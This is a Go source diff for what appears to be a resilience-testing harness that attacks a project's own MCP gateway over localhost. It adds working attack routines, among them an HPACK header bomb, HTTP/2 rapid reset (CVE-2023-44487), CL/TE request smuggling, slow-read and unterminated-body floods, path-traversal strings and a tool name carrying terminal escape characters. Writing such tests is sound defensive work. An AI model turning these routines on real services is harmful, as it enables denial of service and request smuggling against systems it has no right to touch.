@@ -4,10 +4,12 @@ import (
 	"bytes"
 	"context"
 	crand "crypto/rand"
-	"fmt"
 	"io"
 	"net"
 	"net/http"
+	"os"
+	"regexp"
+	"slices"
 	"strings"
 	"time"
 
@@ -23,47 +25,74 @@ type target struct {
 	Token string
 }
 
-// attack is one way to harm. It is done over and over by so many workers.
+// attack is one way to harm. It is done over and over by so many workers; do tells
+// whether it came as far as the mesh.
 type attack struct {
 	name    string
 	workers int
-	do      func(ctx context.Context, m target)
+	do      func(ctx context.Context, m target) bool
 }
 
-// attacks are the cases X1 to X5, X8 and N2 and their relatives.
+// attacks are the cases X1 to X10 as far as they come from outside, R11, N2 and their
+// relatives.
 func attacks() []attack {
-	digits := `{"name":"free","arguments":{"n":1e-` + strings.Repeat("9", 3<<20) + `}}`
-	deep := `{"name":"free","arguments":{"n":` + strings.Repeat("[", 60) + `"` + strings.Repeat("z", 3<<20) + `"` + strings.Repeat("]", 60) + `}}`
-	stuffed := `{"text":"` + strings.Repeat("ping ", 600_000) + `"}`
-	list := func(server string) func(context.Context, target) {
-		return func(ctx context.Context, m target) { m.ask(ctx, server, "tools/list", "{}") }
+	const most = 3 << 20
+	text := strings.Repeat("z", most)
+	digits := `{"name":"free","arguments":{"n":1e-` + strings.Repeat("9", most) + `}}`
+	deep := `{"name":"free","arguments":{"n":` + strings.Repeat("[", 60) + `"` + text + `"` + strings.Repeat("]", 60) + `}}`
+	judged := `{"name":"judged","arguments":{"path":"/srv/` + strings.Repeat("../a/", 40_000) + `","paths":["` + strings.Repeat(`/srv/b","`, 3_000) + `"]}}`
+	stuffed := `{"text":"` + text + `"}`
+	ask := func(server, method, params string) func(context.Context, target) bool {
+		return func(ctx context.Context, m target) bool { return m.ask(ctx, server, method, params) }
+	}
+	list := func(server string) func(context.Context, target) bool { return ask(server, "tools/list", "{}") }
+	called := func(server, tool string) func(context.Context, target) bool {
+		return ask(server, "tools/call", `{"name":"`+tool+`","arguments":{}}`)
 	}
 	return []attack{
-		{"X1 long numbers in arguments", 2, func(ctx context.Context, m target) { m.ask(ctx, "free", "tools/call", digits) }},
-		{"X1 deep arguments", 2, func(ctx context.Context, m target) { m.ask(ctx, "free", "tools/call", deep) }},
+		{"X1 long numbers in arguments", 2, ask("free", "tools/call", digits)},
+		{"X1 deep arguments", 2, ask("free", "tools/call", deep)},
+		{"X1 arguments that conditions look at", 2, ask("free", "tools/call", judged)},
 		{"X1 long numbers in lists", 1, list("number")},
 		{"X1 deep lists", 1, list("deep")},
 		{"X1 10,000 tools in each list", 4, list("wide")},
 		{"X2 streams of indexed headers", 2, hpackBomb},
-		{"X2 connections that say nothing to gRPC", 2, func(ctx context.Context, m target) { hold(ctx, m.GRPC, "") }},
+		{"X2 streams that are reset", 2, rapidReset},
+		{"X2 connections that say nothing to gRPC", 2, func(ctx context.Context, m target) bool { return hold(ctx, m.GRPC, "") }},
 		{"X3 large answers, read slowly", 16, readSlowly},
 		{"X3 a person who reads nothing", 4, readNothing},
-		{"X4 text for a server of which all is denied", 2, func(ctx context.Context, m target) { m.ask(ctx, "closed", "ping", stuffed) }},
-		{"X5 an unlimited tool", 8, func(ctx context.Context, m target) { m.call(ctx, "free", "free", "{}") }},
-		{"X8 questions without end", 2, func(ctx context.Context, m target) { m.call(ctx, "drift", "ask", `{"n":"`+rand()+`"}`) }},
-		{"X9 names that are hidden, or are not", 2, func(ctx context.Context, m target) {
-			m.call(ctx, "free", "secret", "{}")
-			m.call(ctx, "free", rand(), "{}")
+		{"X4 text for a server of which all is denied", 2, ask("closed", "ping", stuffed)},
+		{"X4 messages that need no rule", 2, ask("closed", "ping", `{"text":"`+text[:60<<10]+`"}`)},
+		{"X5 an unlimited tool", 8, called("free", "free")},
+		{"X8 questions without end", 2, func(ctx context.Context, m target) bool { return m.call(ctx, "drift", "ask", `{"n":"`+rand()+`"}`) }},
+		{"X8 large calls that ask", 1, func(ctx context.Context, m target) bool {
+			return m.call(ctx, "drift", "ask", `{"n":"`+rand()+text+`"}`)
 		}},
-		{"R11 denied without end", 4, func(ctx context.Context, m target) { m.call(ctx, "free", "denied", "{}") }},
-		{"N2 sessions without end", 2, func(ctx context.Context, m target) { m.open(ctx, "free") }},
-		{"N2 bodies that do not end", 4, func(ctx context.Context, m target) {
-			hold(ctx, strings.TrimPrefix(m.MCP, "http://"), "POST /mcp/free HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer "+m.Token+
-				"\r\nContent-Type: application/json\r\nContent-Length: 4000000\r\n\r\n{")
+		{"X9 names that are hidden, or are not", 2, func(ctx context.Context, m target) bool {
+			return m.call(ctx, "free", "secret", "{}") && m.call(ctx, "free", rand(), "{}")
 		}},
-		{"I1 credentials that are none", 2, func(ctx context.Context, m target) { m.Token = rand(); m.call(ctx, "free", "free", "{}") }},
+		{"X10 requests that end in two places", 2, smuggle},
+		{"R11 denied without end", 4, called("free", "denied")},
+		{"N2 sessions without end", 2, func(ctx context.Context, m target) bool { return m.open(ctx, "free") != "" }},
+		{"N2 sessions that do not end", 2, called("lingering", "free")},
+		{"N2 bodies that do not end", 4, func(ctx context.Context, m target) bool {
+			return hold(ctx, m.edge(), m.head("free")+"Content-Length: 4000000\r\n\r\n{")
+		}},
+		{"I1 credentials that are none", 2, func(ctx context.Context, m target) bool {
+			m.Token = rand()
+			return m.open(ctx, "free") == "" && ctx.Err() == nil
+		}},
+		{"P12 names that steer terminals", 1, called("free", `\u001b[2J\u202e`)},
+		{"P16 questions of newer clients", 2, ask("free", "server/discover", "{}")},
 		{"U1 a server over stdio that prints without end", 1, list("spam")},
 	}
+}
+
+// chosen are the attacks whose names match SLUICE_ATTACKS, a regular expression; all
+// where it says nothing.
+func chosen() []attack {
+	only := regexp.MustCompile(os.Getenv("SLUICE_ATTACKS"))
+	return slices.DeleteFunc(attacks(), func(a attack) bool { return !only.MatchString(a.name) })
 }
 
 // client never waits longer than a held call does.
@@ -79,17 +108,29 @@ func (m target) open(ctx context.Context, server string) string {
 	return resp.Header.Get("Mcp-Session-Id")
 }
 
-// ask opens a session, asks one thing in it and reads the answer.
-func (m target) ask(ctx context.Context, server, method, params string) {
+// ask opens a session, asks one thing in it, reads the answer, and tells whether there
+// was one.
+func (m target) ask(ctx context.Context, server, method, params string) bool {
 	session := m.open(ctx, server)
-	if resp := m.post(ctx, server, session, `{"jsonrpc":"2.0","id":1,"method":"`+method+`","params":`+params+`}`); resp != nil {
-		drain(resp)
+	defer m.end(ctx, server, session)
+	resp := m.post(ctx, server, session, `{"jsonrpc":"2.0","id":1,"method":"`+method+`","params":`+params+`}`)
+	if resp == nil {
+		return false
 	}
-	m.end(ctx, server, session)
+	drain(resp)
+	return true
 }
 
-func (m target) call(ctx context.Context, server, tool, arguments string) {
-	m.ask(ctx, server, "tools/call", fmt.Sprintf(`{"name":%q,"arguments":%s}`, tool, arguments))
+func (m target) call(ctx context.Context, server, tool, arguments string) bool {
+	return m.ask(ctx, server, "tools/call", `{"name":"`+tool+`","arguments":`+arguments+`}`)
+}
+
+// edge is the address of the edge.
+func (m target) edge() string { return strings.TrimPrefix(m.MCP, "http://") }
+
+// head is the head of a request, but for what tells where its body ends.
+func (m target) head(server string) string {
+	return "POST /mcp/" + server + " HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + m.Token + "\r\nContent-Type: application/json\r\n"
 }
 
 // post sends a message; nil where nothing of HTTP came back.
@@ -130,78 +171,124 @@ func drain(resp *http.Response) {
 
 // readSlowly has a large answer made and reads 64 KiB of it a second, until it is cut
 // off.
-func readSlowly(ctx context.Context, m target) {
+func readSlowly(ctx context.Context, m target) bool {
 	session := m.open(ctx, "big")
 	defer m.end(ctx, "big", session)
 	resp := m.post(ctx, "big", session, `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"big"}}`)
 	if resp == nil {
-		return
+		return false
 	}
 	defer resp.Body.Close()
 	for {
-		if n, err := io.CopyN(io.Discard, resp.Body, 64<<10); err != nil || n == 0 {
-			return
-		}
-		if !rest(ctx, time.Second) {
-			return
+		if n, err := io.CopyN(io.Discard, resp.Body, 64<<10); err != nil || n == 0 || !rest(ctx, time.Second) {
+			return true
 		}
 	}
 }
 
 // hold opens connections that say so much and no more, and keeps each for a while.
-func hold(ctx context.Context, addr, say string) {
+func hold(ctx context.Context, addr, say string) bool {
+	defer rest(ctx, 10*time.Millisecond)
 	conn, err := new(net.Dialer).DialContext(ctx, "tcp", addr)
 	if err != nil {
-		rest(ctx, 10*time.Millisecond)
-		return
+		return false
 	}
-	_, _ = io.WriteString(conn, say)
+	_, err = io.WriteString(conn, say)
 	context.AfterFunc(ctx, func() { _ = conn.Close() })
 	time.AfterFunc(30*time.Second, func() { _ = conn.Close() })
-	rest(ctx, 10*time.Millisecond)
+	return err == nil
 }
 
-// hpackBomb opens a connection to gRPC whose streams have headers that are small on the
-// wire and large where they are read (RFC 7541, section 7.3).
-func hpackBomb(ctx context.Context, m target) {
-	conn, err := new(net.Dialer).DialContext(ctx, "tcp", m.GRPC)
+// smuggle sends a request whose end depends on which of its two lengths is believed,
+// and behind it another one.
+func smuggle(ctx context.Context, m target) bool {
+	conn, err := new(net.Dialer).DialContext(ctx, "tcp", m.edge())
 	if err != nil {
-		rest(ctx, 10*time.Millisecond)
-		return
+		return false
 	}
 	defer conn.Close()
 	defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
-	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
-		return
+	_, err = io.WriteString(conn, m.head("free")+"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"+m.head("free")+"Content-Length: 2\r\n\r\n{}")
+	n, _ := io.Copy(io.Discard, conn) // it is closed behind the first answer
+	return err == nil && n > 0
+}
+
+// frames opens a connection to gRPC; nil where there is none. It ends with ctx or end.
+func (m target) frames(ctx context.Context) (to *http2.Framer, end func()) {
+	conn, err := new(net.Dialer).DialContext(ctx, "tcp", m.GRPC)
+	if err != nil {
+		return nil, nil
 	}
-	frames := http2.NewFramer(conn, conn)
-	if frames.WriteSettings() != nil {
-		return
+	stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
+	end = func() { stop(); _ = conn.Close() }
+	to = http2.NewFramer(conn, conn)
+	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil || to.WriteSettings() != nil {
+		end()
+		return nil, nil
 	}
 	go io.Copy(io.Discard, conn) // what it says is nobody's
+	return to, end
+}
+
+// request encodes the head of a call of gRPC, and fields of that size behind it.
+func request(enc *hpack.Encoder, fields, size int) {
+	for _, h := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", "/sluice.policy.v1.PolicyService/DecideCall"}, {":authority", "localhost"}, {"content-type", "application/grpc"}} {
+		_ = enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}) // into memory
+	}
+	for range fields {
+		_ = enc.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("v", size)})
+	}
+}
+
+// hpackBomb opens streams whose headers are small on the wire and large where they are
+// read (RFC 7541, section 7.3), until the connection ends.
+func hpackBomb(ctx context.Context, m target) bool {
+	to, end := m.frames(ctx)
+	if to == nil {
+		return false
+	}
+	defer end()
 	var block bytes.Buffer
 	enc := hpack.NewEncoder(&block)
 	for id := uint32(1); id < 80; id += 2 {
 		block.Reset()
-		for _, h := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", "/sluice.policy.v1.PolicyService/DecideCall"}, {":authority", "localhost"}, {"content-type", "application/grpc"}} {
-			_ = enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
-		}
-		for range 4000 {
-			_ = enc.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("v", 3900)})
-		}
+		request(enc, 4000, 3900)
 		for first, rest := true, block.Bytes(); len(rest) > 0; first = false {
 			part := rest[:min(len(rest), 16<<10)]
 			rest = rest[len(part):]
+			var err error
 			if first {
-				err = frames.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: part, EndHeaders: len(rest) == 0})
+				err = to.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: part, EndHeaders: len(rest) == 0})
 			} else {
-				err = frames.WriteContinuation(id, len(rest) == 0, part)
+				err = to.WriteContinuation(id, len(rest) == 0, part)
 			}
 			if err != nil {
-				return
+				return id > 1
 			}
 		}
 	}
+	return true
+}
+
+// rapidReset opens streams and takes each back at once (CVE-2023-44487), until the
+// connection ends.
+func rapidReset(ctx context.Context, m target) bool {
+	to, end := m.frames(ctx)
+	if to == nil {
+		return false
+	}
+	defer end()
+	var block bytes.Buffer
+	enc := hpack.NewEncoder(&block)
+	for id := uint32(1); id < 20_000; id += 2 {
+		block.Reset()
+		request(enc, 0, 0)
+		if to.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true}) != nil ||
+			to.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
+			return id > 1
+		}
+	}
+	return true
 }
 
 // rest waits, and tells whether ctx goes on.
